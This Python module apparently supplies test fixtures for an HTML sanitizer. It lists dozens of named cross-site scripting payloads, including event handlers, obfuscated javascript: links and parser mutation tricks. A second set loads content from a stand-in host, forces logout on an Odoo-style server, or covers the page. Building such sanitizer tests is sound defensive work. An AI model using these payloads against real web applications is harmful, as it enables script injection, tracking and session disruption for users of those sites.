"""Hostile HTML: what each piece tries, under a name.

``RUN`` stands for a call that tells of having run, ``OWN`` for our server's address.
Pieces of the first table run something where nothing protects (most of them; a browser
has learned to withstand some). Those of the second load, navigate or cover.
"""

#: Runs script: at once, by a mutation when parsed twice, or when clicked.
SCRIPTS = {
    "script": "<script>RUN</script>",
    "script in upper case": "<SCRIPT>RUN</SCRIPT>",
    "script cut in two": "<scr<script>ipt>RUN</scr</script>ipt><script>RUN</script>",
    "script after a stray bracket": "<<script>RUN//<</script>",
    "script with a slash": "<script/x>RUN</script>",
    "script in svg": "<svg><script>RUN</script></svg>",
    "script in svg by reference": "<svg><script href='data:,RUN'></script></svg>",
    "module": "<script type=module>RUN</script>",
    "image error": "<img src=x: onerror=RUN>",
    "image error with slashes": "<img/src=x:/onerror=RUN>",
    "image error in quotes": '<img src="x:"onerror="RUN">',
    "image error after a quote": "<img alt='\"' src=x: onerror='RUN'>",
    "image error with a line end": "<img src=x:\nonerror\n=\nRUN>",
    "image tag of old": "<image src=x: onerror=RUN>",
    "image load": (
        "<img onload=RUN src='data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA='>"
    ),
    "svg load": "<svg onload=RUN>",
    "svg load with a slash": "<svg/onload=RUN>",
    "svg image error": "<svg><image href=x: onerror=RUN /></svg>",
    "body load": "<body onload=RUN>",
    "body page show": "<body onpageshow=RUN>",
    "body hash": "<body onhashchange=RUN><a href='#x'>on</a>",
    "style load": "<style onload=RUN></style>",
    "link error": "<link rel=stylesheet href=x: onerror=RUN>",
    "input focus": "<input autofocus onfocus=RUN>",
    "select focus": "<select autofocus onfocus=RUN></select>",
    "textarea focus": "<textarea autofocus onfocus=RUN></textarea>",
    "any focus": "<p tabindex=1 autofocus onfocus=RUN>x</p>",
    "details toggle": "<details open ontoggle=RUN>x</details>",
    "popover": (
        "<button popovertarget=p>on</button><p id=p popover onbeforetoggle=RUN>x</p>"
    ),
    "marquee": "<marquee onstart=RUN>x</marquee>",
    "video error": "<video src=x: onerror=RUN></video>",
    "video source": "<video><source src=x: onerror=RUN></video>",
    "audio error": "<audio src=x: onerror=RUN></audio>",
    "object error": "<object data=x: onerror=RUN></object>",
    "animation": (
        "<style>@keyframes k{}</style>"
        "<b style='animation:k 1s' onanimationstart=RUN>x</b>"
    ),
    "content visibility": (
        "<p style='content-visibility:auto' "
        "oncontentvisibilityautostatechange=RUN>x</p>"
    ),
    "svg animate": "<svg><animate onbegin=RUN attributeName=x dur=1s /></svg>",
    "svg set": "<svg><set onbegin=RUN attributeName=x dur=1s /></svg>",
    "frame of script": "<iframe src='javascript:RUN'></iframe>",
    "frame of markup": "<iframe srcdoc='<script>RUN</script>'></iframe>",
    "frame of data": "<iframe src='data:text/html,<script>RUN</script>'></iframe>",
    "object of script": "<object data='javascript:RUN'></object>",
    "embed of script": "<embed src='javascript:RUN'>",
    "click": "<p onclick=RUN>on</p>",
    "click on the whole": "<div onclick=RUN><b>on</b> and <i>on</i></div>",
    "link": "<a href='javascript:RUN'>on</a>",
    "link in mixed case": "<a href='jAvAsCrIpT:RUN'>on</a>",
    "link with a line end": "<a href='java&#10;script:RUN'>on</a>",
    "link with a tab": "<a href='java&Tab;script&colon;RUN'>on</a>",
    "link with a control": "<a href='&#1;javascript:RUN'>on</a>",
    "link with entities": "<a href='&#106;&#97;vascript&#58;RUN'>on</a>",
    "link to a new tab": "<a target=_blank href='javascript:RUN'>on</a>",
    "link with two values": "<a href='x' href='javascript:RUN' HREF='x'>on",
    "link after a base": "<base href='javascript:/a/'><a href='#%0ARUN'>on</a>",
    "link in svg": (
        "<svg><a xlink:href='javascript:RUN'><text y=20>on</text></a></svg>"
    ),
    "link in svg, plain": (
        "<svg><a href='javascript:RUN'><text y=20>on</text></a></svg>"
    ),
    "link animated": (
        "<svg><a><animate attributeName=href values='javascript:RUN' dur=9s />"
        "<text y=20>on</text></a></svg>"
    ),
    "link set": (
        "<svg><a><set attributeName=href to='javascript:RUN' />"
        "<text y=20>on</text></a></svg>"
    ),
    "link in mathematics": "<math href='javascript:RUN'><mi>on</mi></math>",
    "map": (
        "<img usemap='#m' width=9 height=9 src='data:image/gif;base64,"
        "R0lGODlhAQABAAAAACwAAAAAAQABAAA='>"
        "<map name=m><area shape=default href='javascript:RUN'></map>"
    ),
    "form": "<form action='javascript:RUN'><button>on</button></form>",
    "form by its button": (
        "<form id=f></form><button form=f formaction='javascript:RUN'>on</button>"
    ),
    "form by its picture": (
        "<form action=x><input type=image formaction='javascript:RUN' alt=on></form>"
    ),
    "refresh": "<meta http-equiv=refresh content='0;url=javascript:RUN'>",
    "comment that ends at once": "<!--><img src=x: onerror=RUN>-->",
    "comment that ends oddly": "<!--a--!><img src=x: onerror=RUN>-->",
    "comment for one browser": "<!--[if true]><img src=x: onerror=RUN><![endif]-->",
    "character data": "<![CDATA[><img src=x: onerror=RUN>]]>",
    "instruction": "<?x ><img src=x: onerror=RUN>?>",
    "mutation by noscript": (
        "<noscript><p title='</noscript><img src=x: onerror=RUN>'></noscript>"
    ),
    "mutation by style": "<style><p title='</style><img src=x: onerror=RUN>'>",
    "mutation by title": "<title><p title='</title><img src=x: onerror=RUN>'>",
    "mutation by text area": (
        "<textarea><p title='</textarea><img src=x: onerror=RUN>'>"
    ),
    "mutation by frame": "<iframe><p title='</iframe><img src=x: onerror=RUN>'>",
    "mutation by sample": "<xmp><p title='</xmp><img src=x: onerror=RUN>'>",
    "mutation by svg": "<svg></p><style><a id='</style><img src=x: onerror=RUN>'>",
    "mutation by mathematics": (
        "<math><mtext><table><mglyph><style><!--</style>"
        "<img title='--&gt;&lt;img src=x: onerror=RUN&gt;'>"
    ),
    "mutation by form": (
        "<form><math><mtext></form><form><mglyph><svg><mtext><style>"
        "<path id='</style><img onerror=RUN src=x:>'>"
    ),
    "mutation by template": "<template><img src=x: onerror=RUN></template>",
    "mutation by depth": "<div>" * 600 + "<img src=x: onerror=RUN>",
    "attribute that ends its own": "<p title='\"><img src=x: onerror=RUN>'>x</p>",
    "attribute in back quotes": "<img alt=`><img src=x: onerror=RUN>`>",
    "entities as text": "&lt;img src=x: onerror=RUN&gt;<script>RUN</script>",
    "names of the page": (
        "<form name=odoo><input name=define></form><img name=body src=x: onerror=RUN>"
    ),
}

#: Loads from elsewhere, acts on our server, leads away or covers the page.
LOADS = {
    "picture": "<img src=https://t.example/a>",
    "picture without scheme": "<img src=//t.example/a>",
    "pictures to choose from": "<img srcset='https://t.example/a 1x'>",
    "picture element": "<picture><source srcset=https://t.example/a><img></picture>",
    "background of a table": "<table background=https://t.example/a><td>x</table>",
    "background of the body": "<body background=https://t.example/a>x",
    "style": "<p style='background:url(https://t.example/a)'>x</p>",
    "style with escapes": "<p style='background:u\\72l(https://t.example/a)'>x</p>",
    "style by a variable": (
        "<style>:root{--a:url(https://t.example/a)}p{background:var(--a)}</style><p>x"
    ),
    "style with a set": (
        "<p style='background:image-set(\"https://t.example/a\" 1x)'>x</p>"
    ),
    "style list": "<ul style='list-style:url(https://t.example/a)'><li>x</ul>",
    "style before": "<style>p:before{content:url(https://t.example/a)}</style><p>x",
    "style cursor": "<p style='cursor:url(https://t.example/a),auto'>x</p>",
    "style import": "<style>@import 'https://t.example/a.css';</style>",
    "style import with escapes": "<style>@\\69mport 'https://t.example/a.css';</style>",
    "style font": (
        "<style>@font-face{font-family:f;src:url(https://t.example/a)}"
        "p{font-family:f}</style><p>x"
    ),
    "style sheet": "<link rel=stylesheet href=https://t.example/a.css>",
    "early load": "<link rel=preload as=image href=https://t.example/a>",
    "early connection": "<link rel='dns-prefetch preconnect' href=https://t.example>",
    "icon": "<link rel=icon href=https://t.example/a>",
    "svg picture": "<svg><image href=https://t.example/a /></svg>",
    "svg use": "<svg><use href=https://t.example/a#b /></svg>",
    "svg filter": "<svg><filter><feImage href=https://t.example/a /></filter></svg>",
    "svg fill": "<svg><rect width=9 height=9 fill='url(https://t.example/a)' /></svg>",
    "video": "<video autoplay src=https://t.example/a poster=https://t.example/b>",
    "audio": "<audio autoplay src=https://t.example/a></audio>",
    "subtitles": "<video><track default src=https://t.example/a></video>",
    "frame": "<iframe src=https://t.example/a></iframe>",
    "frames": "<frameset><frame src=https://t.example/a></frameset>",
    "object": "<object data=https://t.example/a></object>",
    "embed": "<embed src=https://t.example/a>",
    "input": "<input type=image src=https://t.example/a>",
    "manifest": "<html manifest=https://t.example/a>x",
    "data with a picture inside": (
        '<img src=\'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg">'
        '<image href="https://t.example/a"/></svg>\'>'
    ),
    "refresh": "<meta http-equiv=refresh content='0;url=https://t.example/a'>",
    "policy of its own": (
        "<meta http-equiv=Content-Security-Policy content='img-src *'>"
        "<img src=https://t.example/a>"
    ),
    "base": "<base href=https://t.example/><img src=a>",
    "link to the top": "<a target=_top href=https://t.example/a>on</a>",
    "link to the parent": "<a target=_parent href=https://t.example/a>on</a>",
    "link to itself": "<a target=_self href=https://t.example/a>on</a>",
    "link without target": "<a href=https://t.example/a>on</a>",
    "link in svg": (
        "<svg><a target=_self href=https://t.example/a><text y=20>on</text></a></svg>"
    ),
    "link that reports": "<a ping=https://t.example/a href='#x'>on</a>",
    "form": "<form action=https://t.example/a><button>on</button></form>",
    "form to the top": (
        "<form target=_top action=https://t.example/a><input type=submit></form>"
    ),
    "log out": "<img src=/web/session/logout>",
    "log out from here": "<img src=session/logout><img src=../../web/session/logout>",
    "log out by name": "<img src=OWN/web/session/logout>",
    "log out by style": "<p style='background:url(/web/session/logout)'>x</p>",
    "log out by style sheet": "<link rel=stylesheet href=/web/session/logout>",
    "log out by frame": "<iframe src=/web/session/logout></iframe>",
    "log out by link": "<a target=_self href=/web/session/logout>on</a>",
    "log out by form": "<form action=/web/session/logout><button>on</button></form>",
    "cover": (
        "<style>html,body{position:fixed;inset:0;z-index:9999}</style>"
        "<div style='position:fixed;inset:-9999px;background:red;z-index:9999'>x</div>"
    ),
    "grow": "<div style='height:200vh'>x</div><div style='height:10000000px'>y</div>",
}
